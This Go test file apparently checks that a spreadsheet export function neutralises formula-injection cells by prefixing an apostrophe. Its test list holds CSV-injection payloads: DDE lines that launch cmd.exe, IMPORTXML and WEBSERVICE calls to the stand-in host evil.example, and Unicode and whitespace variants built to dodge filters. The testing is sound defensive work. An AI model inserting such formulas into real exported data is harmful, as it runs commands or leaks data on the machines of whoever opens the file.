package spreadsheet

import (
	"strings"
	"testing"
	"unicode"

	"github.com/mxodus/mxodus/providers/faults"
)

// Formulas are cells that some spreadsheet runs.
var formulas = []string{
	"=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
	"+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u3000=1+1", "\x00=1+1", "\x1f=1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "\"=1+1\"", "\"\"=1+1", "−1+1", "\u2028=1", "=\r\n1+1", "\t", "\t+1", "=", "@", "+", "-",
}

// runs reports whether the first thing that a spreadsheet sees of a cell is a sign of a formula.
func runs(cell string) bool {
	if cell == "" || strings.HasPrefix(cell, "'") {
		return false
	}
	seen := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsPrint(r) || r == '"' })
	return strings.ContainsRune("\t\r\n", rune(cell[0])) || seen != "" && strings.ContainsRune("=+-@＝＋－＠−", []rune(seen)[0])
}

func TestGuarded(t *testing.T) {
	for _, f := range formulas {
		if !runs(f) {
			t.Errorf("%q is no formula", f)
		}
		if got := Guarded(f); runs(got) || strings.TrimPrefix(got, "'") != f {
			t.Errorf("%q is written as %q", f, got)
		}
	}
	for _, cell := range []string{"", "INBOX", "a=b", "a@b.example", "'=1", "1-2", "Anna", "(=1)", "日本"} {
		if got := Guarded(cell); got != cell {
			t.Errorf("%q is written as %q", cell, got)
		}
	}
	faults.Count(t, "formulas", len(formulas))
}
